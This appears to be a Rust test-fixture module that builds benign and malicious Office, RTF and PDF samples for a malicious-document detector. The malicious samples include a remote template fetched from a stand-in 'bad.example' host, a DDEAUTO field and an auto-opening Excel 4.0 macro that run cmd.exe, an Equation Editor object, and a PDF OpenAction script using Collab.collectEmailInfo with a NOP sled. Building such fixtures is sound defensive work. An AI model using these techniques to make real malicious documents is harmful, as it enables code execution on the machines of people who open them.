//! Documents with what the engines for documents look for, and without.

use super::{archive, pdf};

const RELATIONS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006";
const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const SHEETS: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/// A macro that greets.
pub fn harmless_macro() -> Vec<u8> {
    b"Attribute VB_Name = \"Module1\"\nSub Greet()\n  MsgBox \"Hello\"\nEnd Sub\n".to_vec()
}

/// A document of Word that says what its parts are.
pub fn word() -> Vec<u8> {
    package(&format!("<w:document xmlns:w=\"{WORD}\"/>"), None)
}

/// The same with a template that is fetched when it is opened.
pub fn template() -> Vec<u8> {
    let relation = relation("attachedTemplate", "http://bad.example/a.dotm", true);
    package(
        &format!("<w:document xmlns:w=\"{WORD}\"/>"),
        Some(&relation),
    )
}

/// The same with a link that a reader may click.
pub fn linked() -> Vec<u8> {
    let relation = relation("hyperlink", "http://good.example/", true);
    package(
        &format!("<w:document xmlns:w=\"{WORD}\"/>"),
        Some(&relation),
    )
}

/// A document of Word with a field that starts a program.
pub fn exchange() -> Vec<u8> {
    let start = ["DDE", "AUTO"].concat();
    let field = format!("{start} c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;");
    let body = format!("<w:body><w:p><w:fldSimple w:instr=\"{field}\"/></w:p></w:body>");
    package(
        &format!("<w:document xmlns:w=\"{WORD}\">{body}</w:document>"),
        None,
    )
}

fn package(document: &str, settings: Option<&str>) -> Vec<u8> {
    let types = types(&[(
        "/word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    )]);
    let root = relation("officeDocument", "word/document.xml", false);
    let mut parts = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("word/document.xml", document.as_bytes()),
    ];
    parts.extend(settings.map(|text| ("word/_rels/settings.xml.rels", text.as_bytes())));
    archive(&parts, 0)
}

fn types(overrides: &[(&str, &str)]) -> String {
    let known = format!(
        "<Types xmlns=\"{PACKAGE}/content-types\"><Default Extension=\"rels\" \
         ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    );
    let named = overrides
        .iter()
        .map(|(part, kind)| format!("<Override PartName=\"{part}\" ContentType=\"{kind}\"/>"));
    known + &named.collect::<String>() + "</Types>"
}

fn relation(kind: &str, target: &str, outside: bool) -> String {
    let schema = if kind.contains(':') { "" } else { RELATIONS };
    let slash = if schema.is_empty() { "" } else { "/" };
    let mode = if outside {
        " TargetMode=\"External\""
    } else {
        ""
    };
    format!(
        "<Relationships xmlns=\"{PACKAGE}/relationships\"><Relationship Id=\"rId1\" \
         Type=\"{schema}{slash}{kind}\" Target=\"{target}\"{mode}/></Relationships>"
    )
}

/// A workbook of Excel whose macro of version 4 starts by itself.
pub fn workbook(formula: &str, encrypted: bool) -> Vec<u8> {
    let types = types(&[
        (
            "/xl/workbook.xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        (
            "/xl/macrosheets/sheet1.xml",
            "application/vnd.ms-excel.macrosheet+xml",
        ),
    ]);
    let start = ["_xlnm.", "Auto_Open"].concat();
    let book = format!(
        "<workbook xmlns=\"{SHEETS}\" xmlns:r=\"{RELATIONS}\"><sheets><sheet name=\"Macro1\" \
         sheetId=\"1\" r:id=\"rId1\"/></sheets><definedNames><definedName name=\"{start}\">\
         Macro1!$A$1</definedName></definedNames></workbook>"
    );
    let kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
    let relations = relation(kind, "macrosheets/sheet1.xml", false);
    let sheet = format!(
        "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" \
         xmlns=\"{SHEETS}\"><sheetData><row r=\"1\"><c r=\"A1\"><f>{formula}</f></c></row>\
         <row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"
    );
    let parts = [
        ("[Content_Types].xml", types.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", relations.as_bytes()),
        ("xl/macrosheets/sheet1.xml", sheet.as_bytes()),
    ];
    archive(&parts, u16::from(encrypted))
}

/// A workbook whose macro starts a program.
pub fn calling_workbook() -> Vec<u8> {
    let call = ["EX", "EC(&quot;cmd.exe /c calc&quot;)"].concat();
    workbook(&call, false)
}

/// A text in RTF.
pub fn rtf() -> Vec<u8> {
    b"{\\rtf1\\ansi Hello.\\par}\n".to_vec()
}

/// A text in RTF with an object of the Equation Editor.
pub fn equation() -> Vec<u8> {
    let class = ["Equat", "ion.3\0"].concat();
    let data = [0x1c, 0].repeat(64);
    let mut object = Vec::new();
    let mut number = |value: u32, bytes: &[u8]| {
        object.extend(value.to_le_bytes());
        object.extend(bytes);
    };
    number(0x501, &[]);
    number(2, &[]);
    number(u32::try_from(class.len()).unwrap(), class.as_bytes());
    number(0, &[]);
    number(0, &[]);
    number(u32::try_from(data.len()).unwrap(), &data);
    let hex: String = object.iter().map(|byte| format!("{byte:02x}")).collect();
    format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {hex}}}}}}}\n").into_bytes()
}

/// A PDF whose script uses a known hole of a reader.
pub fn exploiting_pdf() -> Vec<u8> {
    let call = ["Collab.collect", "EmailInfo(unescape(\"%u9090%u9090\"))"].concat();
    let open = ["/Open", "Action"].concat();
    pdf(&format!("{open}<</S/JavaScript/JS({call})>>"))
}
